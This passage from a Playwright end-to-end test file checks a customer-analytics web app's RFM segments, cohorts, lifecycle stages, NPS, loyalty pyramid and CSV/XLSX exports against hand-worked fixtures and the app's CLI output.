  await expectText(page, 'ov-customers', '2,357');
  assert.match(await page.getByTestId('file-name').textContent(), /^cdnow-again\.txt · /);
  await context.close();
});

test('a broken transactions file and a survey chosen together: the error is shown, and the survey joins the next file', async () => {
  const { context, page, errors } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  await chooseAtOnce(page, [['file-input', 'image.csv', 'image.csv'], ['survey-input', 'survey_cdnow_gbk.csv', 'survey_cdnow_gbk.csv']]);
  // The broken file's message, as when it is chosen alone: not a notice over pages it replaced.
  await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
  await page.waitForFunction(() => /PNG image, not a table of customers/.test(document.querySelector('[data-testid="error-message"]')?.textContent ?? ''), null, { timeout: TIMEOUT });
  assert.equal(await page.getByTestId('error-dismiss').count(), 0);
  // The survey was read meanwhile: the next transactions file is joined to it.
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  await page.getByTestId('tab-nps').click();
  await expectText(page, 'nps-responses', '625');
  assert.deepEqual(errors, []);
  await context.close();
});

test('segments: click a segment, see its customers, export them', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'customers', '2,357');
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('segment-bars').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('rule').textContent(), /floor\(5 · w \/ N\).*as of 1998-07-01/);
  // The CLI counts 533 Champions in this file (loyalty-lens rfm); the app must agree.
  await page.getByTestId('segment-bar-0').click();
  await expectText(page, 'list-total', '533');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const lines = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '').trim().split('\n');
  assert.equal(lines[0], 'customer_id,recency_days,frequency,monetary,r,f,m,segment,cn_segment,abc,tier,stage,state');
  assert.equal(lines.length, 534);
  assert.ok(lines.slice(1).every((l) => l.split(',')[7] === 'Champions'));
  // A heat-map cell opens the same kind of list, with the count the cell shows.
  const cellCount = (await page.getByTestId('cell-5-5').locator('text').first().textContent()).trim();
  await page.getByTestId('cell-5-5').click();
  await expectText(page, 'list-total', cellCount);
  // Other rules: three bins.
  await page.getByTestId('bins').selectOption('3');
  await page.getByTestId('recalculate').click();
  await page.waitForFunction(() => /floor\(3 · w/.test(document.querySelector('[data-testid="rule"]').textContent), null, { timeout: TIMEOUT });
  await context.close();
});

test('lifecycle page: KPIs, tiers, stages, transitions, and drill-down', async () => {
  const { context, page } = await openApp();
  await page.getByTestId('sample').click();
  await expectText(page, 'customers', '20,000');
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('tier-table').waitFor({ timeout: TIMEOUT });
  for (const id of ['kpi-repurchase', 'kpi-reactivation', 'kpi-cross', 'kpi-top5']) {
    assert.match(await page.getByTestId(id).textContent(), /^[\d.]+[%×]$/, id);
  }
  // The sample maps member levels, so tiers come from that column: 钻石 first.
  const firstTier = page.getByTestId('tier-table').locator('tbody tr').first();
  assert.match(await firstTier.textContent(), /钻石|Diamond/);
  const tierCount = (await firstTier.locator('td').nth(1).textContent()).trim();
  await firstTier.click();
  await expectText(page, 'list-total', tierCount);
  // Every row of the transition matrix that has transitions sums to 100% (rounded per cell).
  const rows = await page.getByTestId('transition-matrix').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => [...tr.querySelectorAll('td')].reduce((a, td) => a + parseFloat(td.textContent), 0)));
  assert.ok(rows.some((s) => s > 0));
  assert.ok(rows.every((s) => s === 0 || Math.abs(s - 100) <= 3), `row sums ${rows}`);
  // In the last transition, a cell opens the customers who moved that way: Lapsed → Lapsed here.
  await page.getByTestId('last-transition').click();
  const cell = page.getByTestId('transition-matrix-4-4');
  const moved = (await cell.getAttribute('title')).split(': ').pop();
  await cell.click();
  await expectText(page, 'list-total', Number(moved).toLocaleString('en-US'));
  await page.getByTestId('category-matrix').waitFor();
  await page.getByTestId('channels').waitFor();
  await context.close();
});

test('lifecycle page: the cohort triangle shows what `loyalty-lens cohorts` prints, and a cell opens its customers', async () => {
  const { context, page } = await openApp();
  const want = JSON.parse(execFileSync(CLI, ['cohorts', fixture('cdnow/CDNOW_sample.txt'), '--format', 'json'], { encoding: 'utf8' }));
  const cohorts = want.cohorts.filter((c) => c.customers > 0);
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'customers', '2,357');
  await page.getByTestId('tab-lifecycle').click();
  const matrix = page.getByTestId('cohort-matrix');
  await matrix.waitFor({ timeout: TIMEOUT });
  const heads = await matrix.locator('tbody th').allTextContents();
  assert.deepEqual(heads, cohorts.map((c) => `${c.label} (${c.customers.toLocaleString('en-US')})`));
  const pct = (x) => `${Math.round(100 * x)}%`;
  const shown = async () => matrix.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
  assert.deepEqual(await shown(), cohorts.map((c) => c.active.map((a) => pct(a / c.customers))));
  await page.getByTestId('cohort-revenue').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="cohort-revenue"]').getAttribute('aria-pressed') === 'true');
  assert.deepEqual(await shown(), cohorts.map((c) => c.revenue.map((r) => pct(r / c.revenue[0]))));
  await page.getByTestId('cohort-repeat').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="cohort-repeat"]').getAttribute('aria-pressed') === 'true');
  assert.deepEqual(await shown(), cohorts.map((c) => c.repeat.map((r) => pct(r / c.customers))));
  // The cumulative repurchase curve of each cohort (at most the 8 most recent).
  const curves = await page.getByTestId('cohort-curves').locator('path.line title').allTextContents();
  assert.deepEqual(curves, cohorts.filter((c) => c.active.length >= 2).slice(-8).map((c) => c.label));
  // The stage chain: rows of probabilities add up to 100%; in the last transition a cell opens the
  // customers who moved that way.
  const chain = page.getByTestId('chain-matrix');
  const sums = await chain.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].reduce((a, td) => a + parseFloat(td.textContent), 0)));
  assert.equal(sums.length, 5);
  assert.ok(sums.every((s) => s === 0 || Math.abs(s - 100) <= 3), `row sums ${sums}`);
  await page.getByTestId('chain-last').click();
  const stayed = page.getByTestId('chain-matrix-0-0');
  await page.waitForFunction(() => document.querySelector('[data-testid="chain-last"]').getAttribute('aria-pressed') === 'true');
  const count = (await stayed.getAttribute('title')).split(': ').pop();
  await stayed.click();
  await expectText(page, 'list-total', Number(count).toLocaleString('en-US'));
  // The first cohort's customers who bought again three months later.
  await page.getByTestId('cohort-active').click();
  await page.getByTestId('cohort-matrix-0-3').click();
  await expectText(page, 'list-total', cohorts[0].active[3].toLocaleString('en-US'));
  assert.match(await page.getByTestId('customer-list').locator('h2').textContent(), /cohort-1997-01\+3/);
  await context.close();
});

test('lifecycle page: cross-purchase in sequence on a hand-worked file, its "not yet" list, and the stage names', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cross_sell.csv');
  await expectText(page, 'customers', '8');
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('cross-sell').waitFor({ timeout: TIMEOUT });
  // By default the category with the most buyers (手机) is the anchor and the others the targets.
  assert.ok(await page.getByTestId('cross-anchor').getByLabel('手机').isChecked());
  assert.ok(await page.getByTestId('cross-targets').getByLabel('手环').isChecked());
  // As of 2024-03-21 within 30 days (worked out in tests/fixtures/README.md's file): f is too
  // recent; of the other 6, a (14 days) and c (the same day) bought a target: 2 of 6.
  await page.getByTestId('cross-within').fill('30');
  await page.getByTestId('cross-apply').click();
  await expectText(page, 'cross-share', '33.3%');
  await expectText(page, 'cross-median', '7');
  await expectText(page, 'cross-not-yet', '3');
  await page.getByTestId('cross-open').click();
  await expectText(page, 'list-total', '3');
  await page.getByTestId('cross-same-day').uncheck();
  await page.getByTestId('cross-apply').click();
  await expectText(page, 'cross-share', '16.7%');
  // The stages under their alternative names, and back.
  const stages = page.getByTestId('stages');
  assert.match(await stages.textContent(), /Exploration/);
  await page.getByTestId('stage-names-alternative').click();
  await page.waitForFunction(() => /Acquisition/.test(document.querySelector('[data-testid="stages"]').textContent));
  await page.getByTestId('stage-names-classic').click();
  await page.waitForFunction(() => /Exploration/.test(document.querySelector('[data-testid="stages"]').textContent));
  await context.close();
});

test('actions page: every customer gets one action, the exported list reads back as the CLI writes it, a playbook naming what the file lacks is refused', async () => {
  const { context, page } = await openApp();
  await upload(page, 'actions_dozen.csv');
  await expectText(page, 'customers', '12');
  await page.getByTestId('tab-actions').click();
  const table = page.getByTestId('actions-table');
  await table.waitFor({ timeout: TIMEOUT });
  const counts = await table.locator('td[data-testid^="action-customers-"]').allTextContents();
  assert.equal(counts.reduce((a, c) => a + Number(c), 0), 12, 'every customer has exactly one action');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('actions-export-all').click()]);
  const got = parseCsv((await readFile(await download.path(), 'utf8')).replace(/^\ufeff/, '').trim());
  const want = parseCsv(execFileSync(CLI, ['actions', fixture('actions_dozen.csv')], { encoding: 'utf8' }).trim());
  assert.deepEqual(got[0], want[0]);
  assert.deepEqual(got.slice(1).map((r) => [r[0], r[1]]), want.slice(1).map((r) => [r[0], r[1]]));
  assert.equal(got.length, 13);
  // The hand-worked playbook names the pyramid tier "Top", which the default pyramid does not have.
  await page.getByTestId('pb-load').setInputFiles(fixture('playbook.csv'));
  await page.waitForFunction(() => document.querySelector('[data-testid="pb-0-3"]')?.value === 'VIP welcome');
  await page.getByTestId('pb-apply').click();
  await page.waitForFunction(() => /Top/.test(document.querySelector('[data-testid="actions-error"]')?.textContent ?? ''));
  // The win-back priorities: c04 (退化期) and c02 (long gone) at 180 days.
  const ids = await page.getByTestId('winback-table').locator('tbody tr td:first-child').allTextContents();
  assert.deepEqual([...ids].sort(), ['c02', 'c04']);
  await context.close();
});

test("a customer's story opens from a list with the keyboard, steps through the list, and goes back to it or to the lists the customer is in", async () => {
  const { context, page } = await openApp();
  await upload(page, 'profile.csv');
  await expectText(page, 'ov-customers', '2');
  await page.getByTestId('survey-input').setInputFiles(fixture('profile_survey.csv'));
  await page.getByTestId('survey-status').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('all-customers').click();
  await expectText(page, 'list-total', '2');
  // The keyboard alone: focus c1's id in the list (the biggest spender first) and press Enter.
  const first = page.getByTestId('customer-list').getByTestId('open-profile').first();
  assert.equal(await first.getAttribute('data-customer'), 'c1');
  await first.focus();
  await page.keyboard.press('Enter');
  const body = page.getByTestId('profile-body');
  await page.waitForFunction(() => document.querySelector('[data-testid="profile-body"]')?.dataset.customer === 'c1', null, { timeout: TIMEOUT });
  assert.ok(await page.getByTestId('profile').evaluate((d) => d.open && d.matches(':modal')), 'a modal dialog');
  // By hand (tests/fixtures/profile.csv, as of the day after the last row, 2024-08-02): orders A1
  // (100 + 20), A2 (50) and A3 (30) on one day, A4 over two days (200 + 10), A5 (70); a return of 20.
  const rows = await body.getByTestId('pf-orders').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 2).map((td) => td.textContent.trim())));
  assert.deepEqual(rows, [
    ['2024-01-05', '120.00'], ['2024-03-10', '50.00'], ['2024-03-10', '30.00'], ['2024-04-01 (return)', '-20.00'], ['2024-05-02', '210.00'], ['2024-08-01', '70.00'],
  ]);
  assert.equal((await body.getByTestId('pf-spend').textContent()).trim(), '460.00');
  assert.equal((await body.getByTestId('pf-first-channel').textContent()).trim(), '天猫');
  assert.equal((await body.getByTestId('pf-categories').textContent()).trim(), '手机、配件、耳机');
  const answers = await body.getByTestId('pf-answers').locator('li').allTextContents();
  assert.equal(answers.length, 2);
  assert.match(answers[0], /^6 · 2024-02-01 · Detractors.*太慢/);
  assert.match(answers[1], /^9 · 2024-05-10 · Promoters/);
  // The periods, latest first: January 2024 to the month of the as-of date's eve (2024-08-01).
  const periods = await body.getByTestId('pf-periods').locator('tbody tr td:first-child').allTextContents();
  assert.deepEqual(periods, ['2024-08', '2024-07', '2024-06', '2024-05', '2024-04', '2024-03', '2024-02', '2024-01']);
  assert.match(await body.getByTestId('pf-no-clv').textContent(), /CLV page/);
  // → steps to the next customer of the list; Esc goes back to the list, on that customer.
  await page.keyboard.press('ArrowRight');
  await page.waitForFunction(() => document.querySelector('[data-testid="profile-body"]')?.dataset.customer === 'c2', null, { timeout: TIMEOUT });
  await expectText(page, 'profile-place', '2 / 2');
  assert.equal((await page.getByTestId('pf-spend').textContent()).trim(), '40.00');
  assert.deepEqual(await page.getByTestId('pf-answers').locator('li').allTextContents(), ['10 · 2024-02-02 · Promoters (9–10) — 好']);
  await page.keyboard.press('Escape');
  await page.getByTestId('profile').waitFor({ state: 'detached', timeout: TIMEOUT });
  assert.equal(await page.evaluate(() => document.activeElement?.dataset.customer), 'c2');
  // From the story to another list: everyone in c2's state, on the lifecycle page.
  await page.keyboard.press('Enter');
  await page.getByTestId('pf-list-state').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('pf-list-state').press('Enter');
  await page.locator('[data-testid="tab-lifecycle"].active').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('customer-list').waitFor({ timeout: TIMEOUT });
  assert.ok(await page.evaluate(() => document.activeElement?.closest('[data-testid="customer-list"]') !== null), 'the keyboard is on the new list');
  const state = await page.getByTestId('customer-list').locator('tbody tr td:last-child').allTextContents();
  assert.ok(state.length >= 1 && state.every((s) => s === state[0]), state.join());
  await context.close();
});

test('lifecycle page: a member list gives the funnel by source, the two biggest sources compared, and the leads to activate exported', async () => {
  const { context, page } = await openApp();
  await upload(page, 'funnel_orders.csv');
  await expectText(page, 'ov-customers', '6');
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('members-input').setInputFiles(fixture('funnel_members.csv'));
  // By hand (tests/cli.rs, funnel_of_a_member_list_worked_out_by_hand): 8 members, one after the as-of date.
  await expectText(page, 'funnel-status', 'funnel_members.csv: 8 members, 1 registered after the as-of date (left out)');
  const rows = await page.getByTestId('funnel-sources').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent.trim())));
  const ads = rows.find((r) => r[0] === '广告');
  // Leads 3; first order 2 of 3 (Wilson 20.8–93.9, statsmodels); second 1 of 3; median 3.5 days;
  // revenue 230 over 3 leads; one member had bought before registering.
  assert.deepEqual([ads[1], ads[2], ads[3].endsWith('1/3'), ads[4], ads[5], ads[6]], ['3', '66.7% (20.8–93.9) · 2/3', true, '3.5', '76.67', '1']);
  assert.deepEqual(rows[0].slice(0, 2), ['All members', '6']);
  // The two sources with most leads compared: 推荐 (2 of 2) against 广告 (2 of 3), p 0.361 (statsmodels).
  await page.getByTestId('funnel-verdict').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('funnel-verdict').textContent(), /^推荐 − 广告: \+33\.3 .*p 0\.361/);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('funnel-export-never').click()]);
  const got = parseCsv((await readFile(await download.path(), 'utf8')).replace(/^\ufeff/, '').trim());
  assert.deepEqual(got.map((r) => r[0]), ['member_id', 'm2', 'm7']);
  // With the list loaded, customer exports carry each customer's source (m6: 推荐, its first
  // registration; x bought without registering).
  await page.getByTestId('all-customers').first().click();
  await expectText(page, 'list-total', '6');
  const [all] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const table = parseCsv((await readFile(await all.path(), 'utf8')).replace(/^\ufeff/, '').trim());
  assert.equal(table[0].at(-1), 'source');
  assert.deepEqual(Object.fromEntries(table.slice(1).map((r) => [r[0], r.at(-1)])), { m1: '广告', m3: '广告', m4: '广告', m5: '推荐', m6: '推荐', x: '' });
  await context.close();
});

test('lifecycle page: KPI trends by period, and a change between two chosen periods tested as a two-proportion test', async () => {
  const { context, page } = await openApp();
  await page.getByTestId('sample').click();
  await expectText(page, 'customers', '20,000');
  await page.getByTestId('tab-lifecycle').click();
  const table = page.getByTestId('kpi-periods');
  await table.waitFor({ timeout: TIMEOUT });
  // The headline: the last complete period against the one before, in words.
  assert.match(await page.getByTestId('kpi-reactivation-change').textContent(), /vs .*(pts)/);
  // Each cell's counts are in its title: hits / of.
  const rows = await table.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [tr.querySelector('td').textContent,
    ...[...tr.querySelectorAll('td.num')].map((td) => td.getAttribute('title').split(' / ').map((x) => Number(x.replace(/,/g, ''))))]));
  assert.ok(rows.length >= 12, `${rows.length} periods`);
  // Compare the first and the last period shown: returning buyers (column 2).
  const [first, last] = [rows[0], rows[rows.length - 1]];
  await page.getByTestId('trend-before').selectOption({ label: first[0] });
  await page.getByTestId('trend-after').selectOption({ label: last[0] });
  const [[h1, n1], [h2, n2]] = [first[2], last[2]];
  // The two-proportion z-test by hand (pooled SE; two-sided p from the normal distribution).
  const pooled = (h1 + h2) / (n1 + n2);
  const z = (h2 / n2 - h1 / n1) / Math.sqrt(pooled * (1 - pooled) * (1 / n1 + 1 / n2));
  const erfc = (x) => { // Abramowitz–Stegun 7.1.26, |error| < 1.5e-7
    const t = 1 / (1 + 0.3275911 * x);
    return t * (0.254829592 + t * (-0.284496736 + t * (1.421413741 + t * (-1.453152027 + t * 1.061405429)))) * Math.exp(-x * x);
  };
  const p = erfc(Math.abs(z) / Math.SQRT2);
  const verdict = await page.getByTestId('trend-verdict-1').textContent();
  const points = (100 * (h2 / n2 - h1 / n1)).toFixed(1);
  assert.ok(verdict.startsWith(`${Number(points) >= 0 ? '+' : ''}${points} pts`), `${verdict} vs ${points}`);
  const shownP = verdict.match(/p (< 0\.001|[\d.]+)/)[1];
  if (shownP === '< 0.001') assert.ok(p < 0.001, `p ${p}`);
  else assert.ok(Math.abs(Number(shownP) - p) < 0.0015, `${shownP} vs ${p}`);
  assert.match(verdict, p < 0.05 ? /real change/ : /within the noise/);
  await context.close();
});

test('a category column of 30,000 products: the cross-category matrix shows the 20 with most buyers', async () => {
  const { context, page } = await openApp();
  // Customer i % 10,000 buys product i: each product one buyer, each customer three products.
  const lines = ['customer_id,order_date,amount,category'];
  for (let i = 0; i < 30000; i++) lines.push(`C${i % 10000},2024-03-${String(1 + (i % 28)).padStart(2, '0')},${10 + (i % 90)}.00,SKU-${i}`);
  await page.getByTestId('file-input').setInputFiles({ name: 'skus.csv', mimeType: 'text/csv', buffer: Buffer.from(lines.join('\n')) });
  await expectText(page, 'customers', '10,000');
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('category-matrix').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('category-matrix-top').textContent(), /\b20\b.*30,000/);
  assert.equal(await page.getByTestId('kpi-cross').textContent(), '100.0%');
  await context.close();
});

test('thousands of member levels and channels: the tables show fifty at a time', async () => {
  const { context, page } = await openApp();
  // 3,000 customers, each with a level and a channel of their own, and an answer.
  const lines = ['customer_id,order_date,amount,channel,member_level,nps_score'];
  for (let i = 0; i < 3000; i++) lines.push(`C${i},2024-03-${String(1 + (i % 28)).padStart(2, '0')},${10 + i}.00,CH-${i},L-${i},${i % 11}`);
  await page.getByTestId('file-input').setInputFiles({ name: 'levels.csv', mimeType: 'text/csv', buffer: Buffer.from(lines.join('\n')) });
  await expectText(page, 'customers', '3,000');
  await page.getByTestId('tab-lifecycle').click();
  const tiers = page.getByTestId('tier-table').locator('tbody tr');
  await tiers.first().waitFor({ timeout: TIMEOUT });
  assert.equal(await tiers.count(), 50);
  assert.equal(await page.getByTestId('channels').locator('tbody tr').count(), 50);
  assert.match(await page.getByTestId('tier-table-more').textContent(), /50 of 3,000/);
  await page.getByTestId('tier-table-more').locator('button').click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="tier-table"] tbody tr').length === 100, null, { timeout: TIMEOUT });
  // Unknown level names rank by their customers' mean spend: L-2999 spent the most.
  assert.match(await tiers.first().textContent(), /^L-2999/);
  await page.getByTestId('tab-nps').click();
  await page.getByTestId('nps-by-channel').waitFor({ timeout: TIMEOUT });
  assert.equal(await page.getByTestId('nps-by-channel').locator('tbody tr').count(), 50);
  assert.match(await page.getByTestId('nps-by-channel-more').textContent(), /50 of 3,000/);
  await context.close();
});

test('rules: a wrong value is named and the last results stay; other rules recalculate', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'customers', '2,357');
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('rules').locator('summary').click();
  await page.getByTestId('r-thresholds').fill('90, 30, 180, 365');
  await page.getByTestId('recalculate').click();
  await page.getByTestId('rules-error').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('rules-error').textContent(), /recency thresholds: they must be finite numbers in ascending order/);
  assert.equal(await page.getByTestId('tier-table').count(), 1, 'the last results are still shown');
  await page.getByTestId('r-thresholds').fill('');
  await page.getByTestId('period').selectOption('quarter');
  await page.getByTestId('recalculate').click();
  await page.waitForFunction(() => /^1998Q2/.test(document.querySelector('[data-testid="periods"] tbody tr:last-child td')?.textContent ?? ''),
    null, { timeout: TIMEOUT });
  assert.equal(await page.getByTestId('rules-error').count(), 0);
  await context.close();
});

test('customer lists export as GBK CSV for Excel on Chinese Windows, and as XLSX', async () => {
  const { context, page } = await openApp();
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('all-customers').click();
  await expectText(page, 'list-total', '4');
  await page.getByTestId('export-format').selectOption('gbk');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const bytes = await readFile(await download.path());
  assert.notDeepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'no UTF-8 BOM in a GBK file');
  const text = new TextDecoder('gbk').decode(bytes);
  assert.match(text, /^customer_id,recency_days,/);
  assert.match(text, /00042,.*客户/);
  // And as an Excel workbook: a zip whose sheet holds the same header.
  await page.getByTestId('export-format').selectOption('xlsx');
  const [xlsx] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  assert.match(xlsx.suggestedFilename(), /\.xlsx$/);
  const book = await readFile(await xlsx.path());
  assert.equal(book.subarray(0, 4).toString('latin1'), 'PK\x03\x04');
  // The app reads its own export back: same customers, ids with their leading zeros.
  await page.getByTestId('file-input').setInputFiles({ name: 'export.xlsx', mimeType: 'application/octet-stream', buffer: book });
  await showData(page);
  await expectText(page, 'format', 'xlsx');
  await expectText(page, 'customers', '4');
  assert.match(await page.getByTestId('preview').textContent(), /00042/);
  await context.close();
});

test('NPS page: score with its interval, distribution, and breakdowns', async () => {
  const { context, page } = await openApp();
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  await page.getByTestId('tab-nps').click();
  // Scores 10, 6, 8, 9: 2 promoters, 1 passive, 1 detractor → NPS 25 on 4 answers (adjusted Wald).
  await expectText(page, 'nps-value', '25.0');
  await expectText(page, 'nps-responses', '4');
  assert.match(await page.getByTestId('nps-interval').textContent(), /adjusted Wald/);
  await page.getByTestId('nps-distribution').waitFor();
  const channels = await page.getByTestId('nps-by-channel').textContent();
  assert.match(channels, /线上商城/);
  await page.getByTestId('nps-by-tier').waitFor();
  // Behaviour × attitude: the four answers in the grid, and a cell opens its customers.
  const cells = page.getByTestId('loyalty-matrix').locator('[data-testid^="lm-grid-"]');
  const counts = (await cells.evaluateAll((tds) => tds.map((td) => Number(td.getAttribute('title').split(': ').pop()))));
  assert.equal(counts.reduce((a, c) => a + c, 0), 4);
  const promoters = counts.filter((_, k) => k % 3 === 0).reduce((a, c) => a + c, 0);
  assert.equal(promoters, 2, 'scores 10 and 9');
  const k = counts.findIndex((c) => c > 0);
  await cells.nth(k).click();
  await expectText(page, 'list-total', String(counts[k]));
  await context.close();
});

test('loyalty pyramid: tiers of 5/30/65%, the ladder, and a tier\'s customers', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'customers', '2,357');
  await page.getByTestId('tab-pyramid').click();
  await page.getByTestId('pyramid').waitFor({ timeout: TIMEOUT });
  // 2,357 customers: the top 5% is round(117.85) = 118, the next 30% ends at round(824.95) = 825.
  const sizes = await page.getByTestId('pyramid-table').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => tr.querySelectorAll('td')[1].textContent));
  assert.deepEqual(sizes, ['118', '707', '1,532']);
  await expectText(page, 'multiple-2', '1.0×');
  await page.getByTestId('ladder').waitFor();
  await page.getByTestId('pyramid-tier-0').click();
  await expectText(page, 'list-total', '118');
  // Four tiers by total spend: 10/20/30/40% of 2,357 → 236, 471 (to 707), 707 (to 1,414), 943.
  await page.getByTestId('pyramid-measure').selectOption('total_spend');
  await page.getByTestId('pyramid-tiers').fill('Top: 10\nHigh: 20\nMid: 30\nLow: 40');
  await page.getByTestId('pyramid-apply').click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="pyramid-table"] tbody tr').length === 4, null, { timeout: TIMEOUT });
  const four = await page.getByTestId('pyramid-table').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => tr.querySelectorAll('td')[1].textContent));
  assert.deepEqual(four, ['236', '471', '707', '943']);
  await page.getByTestId('pyramid-tiers').fill('Only: 100');
  await page.getByTestId('pyramid-apply').click();
  assert.match(await page.getByTestId('pyramid-error').textContent(), /2 to 6 tiers/);
  await context.close();
});

test('an events file scores engagement as pandas does and ranks the pyramid of participation against spend', async () => {
  const { context, page, requests, errors } = await openApp();
  await upload(page, 'engagement/orders.csv');
  await expectText(page, 'customers', '20');
  await page.getByTestId('tab-pyramid').click();
  await page.getByTestId('participation').waitFor({ timeout: TIMEOUT });
  const before = requests.length;
  await page.getByTestId('events-input').setInputFiles(fixture('engagement/events.csv'));
  // What pandas found (tests/fixtures/engagement/make.py → expected.json).
  const want = JSON.parse(await readFile(fixture('engagement/expected.json'), 'utf8'));
  await page.getByTestId('events-status').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('events-status').textContent(), new RegExp(`${want.matched} of the customers' events scored, ${want.customers} customers`));
  assert.match(await page.getByTestId('events-unknown').textContent(), new RegExp(`${want.unknown_events} events of ${want.unknown_customers} ids .*z1, z2`));
  await page.getByTestId('events-after').waitFor();
  await page.getByTestId('events-bad-points').waitFor();
  // The rule: weights per type (every type listed at 1 first), then the pyramid by engagement.
  assert.match(await page.getByTestId('events-weights').inputValue(), /推荐好友: 1/);
  await page.getByTestId('events-weights').fill('推荐好友: 5\n内测: 4');
  await page.getByTestId('events-apply').click();
  await page.waitForFunction(() => /推荐好友\s*5/.test(document.querySelector('[data-testid="events-types"]')?.textContent ?? ''), null, { timeout: TIMEOUT });
  await page.getByTestId('pyramid-measure').selectOption('engagement');
  await page.getByTestId('pyramid-apply').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="pyramid-measure"]').value === 'engagement', null, { timeout: TIMEOUT });
  const sizes = await page.getByTestId('pyramid-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => Number(tr.querySelectorAll('td')[1].textContent)));
  assert.deepEqual(sizes, want.tier_customers);
  // The top two tiers by engagement are the customers pandas ranked there.
  const top = [];
  for (const k of [0, 1]) {
    await page.getByTestId(`pyramid-tier-${k}`).click();
    await expectText(page, 'list-total', String(want.tier_customers[k]));
    top.push(...(await page.getByTestId('customer-list').locator('tbody tr td:first-child').allTextContents()));
  }
  assert.deepEqual(top.sort(), want.top_engaged);
  // Against spend: engaged but not spending, spending but not engaged, each a list with its scores.
  await expectText(page, 'versus-both-top', String(want.both_top.customers));
  await expectText(page, 'versus-engaged', String(want.engaged_not_spending.customers));
  await expectText(page, 'versus-spending', String(want.spending_not_engaged.customers));
  await page.getByTestId('versus-engaged').click();
  await expectText(page, 'list-total', String(want.engaged_not_spending.customers));
  const row = await page.getByTestId('customer-list').locator('tbody tr').first().locator('td').allTextContents();
  assert.equal(row[0], 'c04');
  assert.equal(Number(row.at(-1)), Number(want.scores.c04.toFixed(2)));
  // The list exported with its engagement column, as the core writes it.
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const text = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '');
  const [header, first] = text.trim().split(/\r?\n/);
  assert.ok(header.endsWith(',engagement_score'), header);
  assert.ok(Math.abs(Number(first.split(',').at(-1)) - want.scores.c04) < 1e-6, first);
  // c04's story: the score, the events by type (one each, by name) and the last one.
  await page.getByTestId('customer-list').getByTestId('open-profile').first().click();
  await page.waitForFunction(() => document.querySelector('[data-testid="profile-body"]')?.dataset.customer === 'c04', null, { timeout: TIMEOUT });
  const story = page.getByTestId('profile-body');
  assert.equal((await story.getByTestId('pf-engagement').textContent()).trim(), want.scores.c04.toFixed(2));
  assert.equal((await story.getByTestId('pf-events').textContent()).trim(), '内测 ×1 · 推荐好友 ×1 · 论坛发帖 ×1');
  assert.equal((await story.getByTestId('pf-last-event').textContent()).trim(), '2024-07-01');
  await page.keyboard.press('Escape');
  // No request left the page: the events were read in the tab.
  assert.deepEqual(requests.slice(before), []);
  // Removed: the pyramid goes back to its default ranking.
  await page.getByTestId('events-remove').click();
  await page.waitForFunction(() => !document.querySelector('[data-testid="versus-matrix"]'), null, { timeout: TIMEOUT });
  assert.equal(await page.getByTestId('pyramid-measure').inputValue(), 'rfm');
  assert.deepEqual(errors, []);
  await context.close();
});

/** What overlaps or overflows on the page (run inside it): cards over cards, anything wider than its
 *  card (but inside a scrolling table or chart, which scrolls), side-by-side blocks over each
 *  other, a chart over its controls. Each problem in words. */
const layoutProblems = () => {
  const out = [];
  const rect = (el) => el.getBoundingClientRect();
